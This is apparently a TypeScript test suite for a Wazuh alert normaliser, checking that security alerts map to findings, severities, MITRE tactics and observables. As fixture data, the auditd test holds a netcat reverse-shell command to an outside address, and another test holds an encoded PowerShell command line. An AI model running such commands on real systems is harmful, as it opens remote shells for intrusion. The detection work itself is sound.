import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { wazuhNormalizer } from './wazuh.normalizer.js';
import {
  asNdjson,
  assertNamesArePaths,
  attackKeys,
  expectShape,
  fixture,
  NOW,
  observed,
  onlyAlert,
  shapeFixture,
  vigilOf,
  withPath,
} from '../../../test/support/normalizer-testing.js';

const FIXTURE = 'wazuh_alert.json';
const ID = '1772446492.8812345';

/** What Wazuh's bundled Shuffle integration posts. */
function integrationBody(alert: unknown): Record<string, unknown> {
  return {
    severity: 3,
    pretext: 'WAZUH Alert',
    title: 'sshd: brute force trying to get access to the system. Non existent user.',
    text: 'Mar  2 10:14:52 bastion-01 sshd[21214]: Invalid user oracle from 198.51.100.77 port 51514',
    rule_id: '5712',
    timestamp: '2026-03-02T10:14:52.318+0000',
    id: ID,
    all_fields: alert,
  };
}

describe('wazuh normaliser', () => {
  test('maps the raw alert fixture', () => {
    const alert = onlyAlert(wazuhNormalizer.normalize(fixture(FIXTURE), NOW));
    assert.equal(alert.finding_info.uid, ID);
    assert.equal(alert.finding_info.title, 'sshd: brute force trying to get access to the system. Non existent user.');
    assert.equal(alert.severity_id, 3);
    assert.equal(alert.time, Date.UTC(2026, 2, 2, 10, 14, 52, 318));
    assert.deepEqual(alert.finding_info.attacks, [{ tactic: { uid: 'TA0006', name: 'Credential Access' }, technique: { uid: 'T1110' } }]);
    assert.deepEqual(alert.finding_info.analytic, {
      uid: '5712',
      name: 'sshd: brute force trying to get access to the system. Non existent user.',
      type: 'Rule',
      type_id: 1,
    });
    assert.deepEqual(alert.device, { type_id: 0, type: 'Unknown', hostname: 'bastion-01', ip: '10.20.30.40', uid: '004' });
    assert.deepEqual(observed(alert), ['hostname:bastion-01', 'ip:10.20.30.40', 'ip:198.51.100.77', 'user:oracle']);
    assert.equal(vigilOf(alert).find((o) => o.value === '198.51.100.77')?.name, 'evidences[0].src_endpoint.ip');
    assertNamesArePaths(alert);
    assert.equal(alert.unmapped?.['count'], 3);
    assert.deepEqual(alert.finding_info.types, ['syslog', 'sshd', 'authentication_failures']);
  });

  test('reads the integration wrapper with the alert under all_fields', () => {
    const result = wazuhNormalizer.normalize(integrationBody(fixture(FIXTURE)), NOW);
    const alert = onlyAlert(result);
    assert.equal(alert.finding_info.uid, ID);
    assert.equal(alert.severity_id, 3);
    assert.equal(vigilOf(alert).find((o) => o.value === '198.51.100.77')?.name, 'evidences[0].src_endpoint.ip');
    const noId = wazuhNormalizer.normalize(integrationBody(withPath(fixture(FIXTURE), 'id', undefined)), NOW);
    assert.equal(onlyAlert(noId).finding_info.uid, ID, 'falls back to the wrapper id');
  });

  test('maps rule.level 0 and 16 and the band edges', () => {
    const sev = (level: number) => onlyAlert(wazuhNormalizer.normalize(withPath(fixture(FIXTURE), 'rule.level', level), NOW)).severity_id;
    assert.deepEqual([0, 3, 4, 6, 7, 11, 12, 14, 15, 16].map(sev), [1, 1, 2, 2, 3, 3, 4, 4, 5, 5]);
  });

  test('reads timestamps with and without a colon in the offset', () => {
    const t = (ts: string) => onlyAlert(wazuhNormalizer.normalize(withPath(fixture(FIXTURE), 'timestamp', ts), NOW)).time;
    assert.equal(t('2026-03-02T11:14:52.318+0100'), Date.UTC(2026, 2, 2, 10, 14, 52, 318));
    assert.equal(t('2026-03-02T11:14:52.318+01:00'), Date.UTC(2026, 2, 2, 10, 14, 52, 318));
  });

  test('reads Windows event data, sysmon hashes and syscheck', () => {
    let body = withPath(fixture(FIXTURE), 'data', {
      win: {
        eventdata: {
          commandLine: 'powershell.exe -enc AAAA',
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          hashes:
            'SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=9785001B0DCF755EDDB8AF294A373C0B87B2498660F724E76C4D53F9C217C7A3,IMPHASH=00000000000000000000000000000000',
          targetUserName: 'jdoe',
        },
      },
    });
    body = withPath(body, 'syscheck', { path: '/etc/passwd', sha256_after: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c' });
    const alert = onlyAlert(wazuhNormalizer.normalize(body, NOW));
    assert.deepEqual(alert.actor, { user: { name: 'jdoe' } });
    for (const expected of [
      'command_line:powershell.exe -enc AAAA',
      'file_name:powershell.exe',
      'sha1:6cbce4a295c163791b60fc23d285e6d84f28ee4c',
      'md5:7353f60b1739074eb17c5f4dddefe239',
      'sha256:9785001b0dcf755eddb8af294a373c0b87b2498660f724e76c4d53f9c217c7a3',
      'file_name:passwd',
      'sha256:de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
    ]) {
      assert.ok(observed(alert).includes(expected), expected);
    }
    assert.equal(observed(alert).filter((o) => o.startsWith('md5:')).length, 1, 'zero IMPHASH dropped');
  });

  test('keeps several tactics unpaired', () => {
    const body = withPath(fixture(FIXTURE), 'rule.mitre', { id: ['T1078'], tactic: ['Defense Evasion', 'Persistence', 'Privilege Escalation', 'Initial Access'] });
    assert.deepEqual(attackKeys(onlyAlert(wazuhNormalizer.normalize(body, NOW))), ['TA0005||', 'TA0003||', 'TA0004||', 'TA0001||', '|T1078|']);
  });

  test('reads alerts.json NDJSON with a bad line and an alert without id', () => {
    const a = JSON.stringify(fixture(FIXTURE));
    const b = JSON.stringify(withPath(fixture(FIXTURE), 'id', '1772446500.1'));
    const noId = JSON.stringify(withPath(fixture(FIXTURE), 'id', undefined));
    const result = wazuhNormalizer.normalize(`${a}\n${b}\n{broken\n${noId}\n`, NOW);
    assert.deepEqual(
      result.alerts.map((x) => [x.index, x.alert.finding_info.uid]),
      [
        [0, ID],
        [1, '1772446500.1'],
      ],
    );
    assert.deepEqual(
      result.failures.map((f) => [f.index, f.code, f.details?.['path'] ?? null]),
      [
        [2, 'invalid_alert', ''],
        [3, 'invalid_alert', 'id'],
      ],
    );
  });

  test('a too-deep NDJSON line fails alone', () => {
    const deep = `{"id":"1.2","rule":{"level":3},"agent":{},"data":${'['.repeat(70)}${']'.repeat(70)}}`;
    const result = wazuhNormalizer.normalize(`${JSON.stringify(fixture(FIXTURE))}\n${deep}\n`, NOW);
    assert.deepEqual(
      result.alerts.map((a) => a.index),
      [0],
    );
    assert.deepEqual(
      result.failures.map((f) => [f.index, f.details?.['reason'], f.details?.['line']]),
      [[1, 'too_deep', 2]],
    );
  });

  test('rejects a mistyped level and unrecognised bodies', () => {
    const bad = wazuhNormalizer.normalize(withPath(fixture(FIXTURE), 'rule.level', 'high'), NOW);
    assert.equal(bad.failures[0].details?.['path'], 'rule.level');
    assert.equal(wazuhNormalizer.normalize({ rule: 'x' }, NOW).failures[0].code, 'unrecognized_payload');
    assert.equal(wazuhNormalizer.detect(integrationBody(fixture(FIXTURE))), true);
    assert.equal(wazuhNormalizer.detect(fixture('suricata_eve_alert.json')), false);
  });
});

describe('documented Wazuh rule groups (test/fixtures/alerts/wazuh)', () => {
  const normalize = (file: string) => onlyAlert(wazuhNormalizer.normalize(shapeFixture('wazuh', file), NOW));

  test('syscheck: the file from its path with hashes after the change, and who changed it', () => {
    const alert = normalize('syscheck-file-modified.json');
    expectShape(alert, {
      title: 'Integrity checksum changed.',
      severity_id: 3,
      time: '2026-03-09T07:31:02.118Z',
      rule: '550',
      attacks: ['TA0040|T1565|T1565.001'],
      device: { hostname: 'web01', ip: '10.1.20.11', uid: '004' },
      observables: [
        'file_name:sudoers',
        'sha256:d4735e3a265e16eee03f59718b9b5d03019c07d8b6c51f90da3a666eec13ab35',
        'md5:8f14e45fceea167a5a36dedd4bea2543',
        'file_name:vim.basic',
        'user:deploy',
      ],
    });
    assert.equal(alert.unmapped?.count, 3);
  });

  test('sshd authentication failures: the IPv6 source and the tried user name', () => {
    expectShape(normalize('sshd-authentication-failed.json'), {
      title: 'sshd: brute force trying to get access to the system. Non existent user.',
      severity_id: 3,
      time: '2026-03-09T03:12:44.551Z',
      attacks: ['TA0006|T1110|'],
      observables: ['ip:2001:db8:beef::23', 'user:admin'],
    });
  });

  test('windows eventchannel: target user with its domain, the machine-account subject as a host, the IPv4-mapped source as IPv4', () => {
    expectShape(normalize('windows-eventchannel-logon-failure.json'), {
      title: 'Multiple Windows logon failures followed by a logon with explicit credentials by a machine account',
      severity_id: 4,
      time: '2026-03-09T09:45:10.003Z',
      user: { name: 'adm_jdoe', domain: 'CORP' },
      observables: ['user:adm_jdoe', 'hostname:WS-0142', 'ip:10.1.4.142'],
      absent: ['user:WS-0142$', 'ip:::ffff:10.1.4.142'],
    });
  });

  test('audit: the executable from its path and the command line from the execve arguments', () => {
    expectShape(normalize('auditd-command-execution.json'), {
      title: 'Audit: Highly privileged command run: /usr/bin/nc',
      severity_id: 4,
      time: '2026-03-09T12:20:33.772Z',
      attacks: ['TA0002|T1059|T1059.004'],
      user: { name: 'root' },
      observables: ['file_name:nc.openbsd', 'command_line:nc -e /bin/sh 198.51.100.14 4444', 'user:pgadmin', 'user:root'],
    });
  });

  test('alerts.json lines: the four groups as NDJSON, one alert each', () => {
    const lines = ['syscheck-file-modified.json', 'sshd-authentication-failed.json', 'windows-eventchannel-logon-failure.json', 'auditd-command-execution.json'].map((f) =>
      shapeFixture('wazuh', f),
    );
    const result = wazuhNormalizer.normalize(asNdjson(lines), NOW);
    assert.deepEqual(result.failures, []);
    assert.deepEqual(
      result.alerts.map((a) => a.alert.finding_info.uid),
      ['1772955062.2231456', '1772925164.998877', '1772963110.5512001', '1772972433.7001122'],
    );
  });
});
